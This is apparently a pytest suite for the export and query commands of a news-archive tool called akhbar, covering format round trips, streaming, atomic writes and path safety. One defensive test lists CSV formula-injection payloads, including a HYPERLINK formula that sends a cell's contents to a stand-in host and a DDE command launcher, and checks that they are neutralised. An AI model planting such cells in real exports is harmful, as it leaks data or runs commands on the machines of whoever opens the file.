"""akhbar export and query's machine formats: the whole test-web lake out in each format, read back by DuckDB
and Polars, equal to the lake; streaming batch by batch; atomic files; formats validated."""

from __future__ import annotations

import base64
import json
from datetime import timedelta
from pathlib import Path

import duckdb
import polars as pl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner
from weblake import DAY, build_weblake

from akhbar.cli import app
from akhbar.export import EXPORT_TABLES, FORMATS, export, write_reader
from akhbar.warehouse.duck import query

runner = CliRunner()


@pytest.fixture(scope="module")
def data(testweb, testweb_outlets, tmp_path_factory, fast_crawl) -> Path:
    return build_weblake(testweb, testweb_outlets, tmp_path_factory, fast_crawl)


def _lake_rows(data: Path, table: str) -> list[dict]:
    rel = query(data, f"select * from {table}")
    return [dict(zip(rel.columns, r, strict=True)) for r in rel.fetchall()]


def _read_back_duckdb(path: Path, fmt: str) -> duckdb.DuckDBPyRelation:
    reader = {"jsonl": "read_json", "csv": "read_csv", "parquet": "read_parquet"}[fmt]
    return duckdb.sql(f"select * from {reader}('{path}')")


def _read_back_polars(path: Path, fmt: str) -> pl.DataFrame:
    if fmt == "jsonl":
        return pl.read_ndjson(path)
    if fmt == "csv":
        return pl.read_csv(path, try_parse_dates=True)
    return pl.read_parquet(path)


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_table_reads_back_in_duckdb_and_polars(data: Path, tmp_path: Path, fmt: str):
    for table in EXPORT_TABLES:
        out = tmp_path / f"{table}.{fmt}"
        result = runner.invoke(app, ["export", "--data-dir", str(data), "--table", table, "--format", fmt,
                                     "-o", str(out)])
        assert result.exit_code == 0, result.output
        lake = _lake_rows(data, table)
        assert lake, f"the test web lake has no {table}"
        assert _read_back_duckdb(out, fmt).count("*").fetchall()[0][0] == len(lake)
        frame = _read_back_polars(out, fmt)
        assert frame.height == len(lake)
        key = "article_id" if table != "crawl_log" else "url"
        assert sorted(map(str, frame[key].to_list())) == sorted(str(r[key]) for r in lake)


@pytest.mark.parametrize("fmt", FORMATS)
def test_article_values_survive_each_format(data: Path, tmp_path: Path, fmt: str):
    out = tmp_path / f"articles.{fmt}"
    lake = _lake_rows(data, "articles")
    assert export(data, "articles", fmt, out) == len(lake)
    by_id = {r["article_id"]: r for r in lake}
    persian = [r for r in lake if r["outlet"].startswith("fa-") and r["tags"]]
    assert persian and any("\u200c" in r["text"] for r in persian)  # ZWNJ must come back as written
    got = _read_back_duckdb(out, fmt)
    rows = [dict(zip(got.columns, r, strict=True)) for r in got.fetchall()]
    for row in rows:
        want = by_id[row["article_id"]]
        assert row["title"] == want["title"]
        assert row["text"] == want["text"]
        assert row["published_at"] == want["published_at"]
        tags = json.loads(row["tags"]) if fmt == "csv" else row["tags"]
        assert list(tags or []) == list(want["tags"] or [])
        signature = row["signature"] if fmt == "parquet" else base64.b64decode(row["signature"])
        assert signature == want["signature"]


def test_csv_has_lf_line_endings_and_lists_as_json(data: Path, tmp_path: Path):
    out = tmp_path / "a.csv"
    export(data, "articles", "csv", out)
    raw = out.read_bytes()
    assert b"\r\n" not in raw
    assert b"['" not in raw  # no Python list notation
    frame = pl.read_csv(out)
    tags = [json.loads(t) for t in frame["tags"].to_list() if t is not None]
    assert any(any("\u200c" in t or "ال" in t for t in row) for row in tags)


def test_day_and_outlet_filters_pick_whole_partitions(data: Path, tmp_path: Path):
    out = tmp_path / "one.jsonl"
    result = runner.invoke(app, ["export", "--data-dir", str(data), "--table", "articles", "--format", "jsonl",
                                 "-o", str(out), "--from", DAY.isoformat(), "--to", DAY.isoformat(),
                                 "--outlet", "fa-payam"])
    assert result.exit_code == 0, result.output
    lines = out.read_text(encoding="utf-8").splitlines()
    # the day's partition only: the run also files articles dated other days into those days' partitions
    lake = _lake_rows(data, "articles")
    want = [r for r in lake if r["outlet"] == "fa-payam" and r["day"] == DAY]
    assert len(lines) == len(want) > 0
    assert {json.loads(line)["outlet"] for line in lines} == {"fa-payam"}
    empty = tmp_path / "none.jsonl"
    assert export(data, "articles", "jsonl", empty, start=max(r["day"] for r in lake) + timedelta(days=1)) == 0
    assert empty.read_text() == ""


def test_the_writer_is_fed_batch_by_batch(data: Path, tmp_path: Path):
    out = tmp_path / "a.parquet"
    rows = export(data, "crawl_log", "parquet", out, batch_rows=16)
    assert rows > 32
    # one row group per record batch written (at most 16 rows each): the rows were never gathered into one table
    meta = pq.ParquetFile(out).metadata
    sizes = [meta.row_group(i).num_rows for i in range(meta.num_row_groups)]
    assert sum(sizes) == rows and len(sizes) >= rows // 16 and max(sizes) <= 16


def test_a_failed_export_leaves_the_old_file_and_no_temporary(tmp_path: Path):
    out = tmp_path / "a.jsonl"
    out.write_text("old\n")
    schema = pa.schema([("x", pa.int64())])

    def batches():
        yield pa.record_batch([pa.array([1, 2])], schema=schema)
        raise OSError("disk gone")

    with pytest.raises(OSError, match="disk gone"):
        write_reader(pa.RecordBatchReader.from_batches(schema, batches()), "jsonl", out)
    assert out.read_text() == "old\n"
    assert [p.name for p in tmp_path.iterdir()] == ["a.jsonl"]


def test_bad_arguments_are_one_error_line(data: Path, tmp_path: Path):
    base = ["export", "--data-dir", str(data), "--table", "articles", "-o"]
    bad_format = runner.invoke(app, [*base, str(tmp_path / "x"), "--format", "xlsx"])
    assert bad_format.exit_code == 2
    assert "jsonl" in bad_format.output and "parquet" in bad_format.output
    bad_table = runner.invoke(app, [*base[:4], "runs", "-o", str(tmp_path / "x"), "--format", "csv"])
    assert bad_table.exit_code == 2
    reversed_range = runner.invoke(app, [*base, str(tmp_path / "x"), "--format", "csv", "--from", "2025-01-08",
                                         "--to", "2025-01-07"])
    assert reversed_range.exit_code == 2 and "before" in reversed_range.output
    to_stdout = runner.invoke(app, [*base, "-", "--format", "parquet"])
    assert to_stdout.exit_code == 2 and "standard output" in to_stdout.output
    assert not (tmp_path / "x").exists()


def test_query_formats_are_validated_and_machine_readable(data: Path):
    sql = "select article_id, tags, signature, published_at from articles order by article_id"
    lake = _lake_rows(data, "articles")
    bad = runner.invoke(app, ["query", "--data-dir", str(data), sql, "--format", "parquet"])
    assert bad.exit_code == 2 and "jsonl" in bad.output
    jsonl = runner.invoke(app, ["query", "--data-dir", str(data), sql, "--format", "jsonl"])
    assert jsonl.exit_code == 0, jsonl.output
    rows = [json.loads(line) for line in jsonl.stdout.splitlines()]
    assert [r["article_id"] for r in rows] == sorted(r["article_id"] for r in lake)
    by_id = {r["article_id"]: r for r in lake}
    for r in rows:
        assert r["tags"] == list(by_id[r["article_id"]]["tags"] or []) or r["tags"] is None
        assert base64.b64decode(r["signature"]) == by_id[r["article_id"]]["signature"]
        assert r["published_at"].endswith("+00:00")
    csv = runner.invoke(app, ["query", "--data-dir", str(data), sql, "--format", "csv"])
    assert csv.exit_code == 0 and "\r\n" not in csv.stdout
    assert pl.read_csv(csv.stdout.encode()).height == len(lake)


def test_csv_quotes_only_where_needed(data: Path):
    # scripts split `akhbar query --format csv` on commas: plain values stay unquoted
    sql = "select outlet, count(*) as n, bool_or(date_disagrees) as b from articles group by 1 order by 1"
    out = runner.invoke(app, ["query", "--data-dir", str(data), sql, "--format", "csv"])
    assert out.exit_code == 0, out.output
    lines = out.stdout.splitlines()
    assert lines[0] == "outlet,n,b"
    counts = dict(query(data, "select outlet, count(*) from articles group by 1").fetchall())
    assert {line.split(",")[0]: int(line.split(",")[1]) for line in lines[1:]} == counts
    assert {line.split(",")[2] for line in lines[1:]} <= {"true", "false"}


# -- CSV cells and outputs within bounds (issue 24) --------------------------------------------------------------

@pytest.mark.parametrize(("cell", "written"), [
    ('=HYPERLINK("http://x.example/?"&A1,"خبر")', '\'=HYPERLINK("http://x.example/?"&A1,"خبر")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(1,2)", "'@SUM(1,2)"),
    ("\tالمصدر", "'\tالمصدر"), ("\r=1", "'\r=1"), ("-۵ درصد", "'-۵ درصد"),
    ("-3", "-3"), ("+1.5", "+1.5"), ("-2e3", "-2e3"), ("+98", "+98"),  # numbers that are numbers
    ("گفت‌وگوی تلفنی", "گفت‌وگوی تلفنی"), ("a=b", "a=b"), ("", ""), ('["=1"]', '["=1"]'),
])
def test_formula_cells_get_a_leading_quote(cell: str, written: str):
    from akhbar.export import neutralised

    assert neutralised(cell) == written


def test_csv_writer_neutralises_text_not_numbers_or_bytes_and_quotes_a_bare_cr():
    import csv
    import io

    from akhbar.export import write_csv

    schema = pa.schema([("title", pa.string()), ("n", pa.int64()), ("signature", pa.binary())])
    batch = pa.record_batch([pa.array(["=1+1", "خبر\rفوری"]), pa.array([-3, 4]), pa.array([b"\xfb\xff\xbf", b"x"])],
                            schema=schema)
    for raw in (False, True):
        out = io.StringIO()
        assert write_csv([batch], schema, out, raw_cells=raw) == 2
        assert "\r\n" not in out.getvalue() and out.getvalue().endswith("\n")
        rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
        assert rows == [["title", "n", "signature"], ["=1+1" if raw else "'=1+1", "-3", "+/+/"],
                        ["خبر\rفوری", "4", "eA=="]]  # the CR inside a quoted field, not a row break


def test_output_path_refuses_stored_data_links_and_special_files(tmp_path: Path):
    import os

    from akhbar.export import output_path, protected_paths

    data = tmp_path / "data"
    (data / "lake" / "articles").mkdir(parents=True)
    elsewhere = tmp_path / "s3-less-lake"
    protected = protected_paths(data, str(elsewhere))
    for bad in (data / "lake", data / "lake" / "articles" / "x.csv", data / "warc" / "w.csv",
                data / "crawl" / "c.jsonl", data / "index" / "search" / "i", data / "akhbar.duckdb",
                data / "akhbar.duckdb.views", elsewhere / "articles" / "a.csv"):
        with pytest.raises(ValueError, match="stored data"):
            output_path(bad, protected)
    os.mkfifo(tmp_path / "fifo")
    (tmp_path / "link").symlink_to(tmp_path / "fifo")
    for bad, why in ((tmp_path / "fifo", "not a regular file"), (tmp_path / "link", "symbolic link"),
                     (tmp_path, "directory"), (Path("/dev/null"), "not a regular file"), (Path(".."), "file name")):
        with pytest.raises(ValueError, match=why):
            output_path(bad, protected)
    # the folder may be reached through a link: its real path is what is checked, and what is written into
    (tmp_path / "to-lake").symlink_to(data / "lake", target_is_directory=True)
    with pytest.raises(ValueError, match="stored data"):
        output_path(tmp_path / "to-lake" / "new.csv", protected)
    (tmp_path / "to-out").symlink_to(tmp_path, target_is_directory=True)
    assert output_path(tmp_path / "to-out" / "data.csv", protected) == tmp_path.resolve() / "data.csv"
    assert output_path(data / "exports.csv", protected) == data.resolve() / "exports.csv"  # the data dir itself: ok


def test_replaced_atomically_writes_a_new_file_with_the_umasks_mode_and_leaves_nothing_on_failure(tmp_path: Path):
    import os

    from akhbar.export import replaced_atomically

    target = tmp_path / "out.csv"
    target.write_text("old\n")
    os.chmod(target, 0o600)
    with replaced_atomically(target) as fh:
        fh.write("گفت‌وگو\n".encode())
    assert target.read_text(encoding="utf-8") == "گفت‌وگو\n"
    umask = os.umask(0)
    os.umask(umask)
    assert target.stat().st_mode & 0o777 == 0o666 & ~umask  # a new file, as open() would make it
    with pytest.raises(RuntimeError), replaced_atomically(target) as fh:
        fh.write(b"half")
        raise RuntimeError("stopped")
    assert target.read_text(encoding="utf-8") == "گفت‌وگو\n" and [p.name for p in tmp_path.iterdir()] == ["out.csv"]
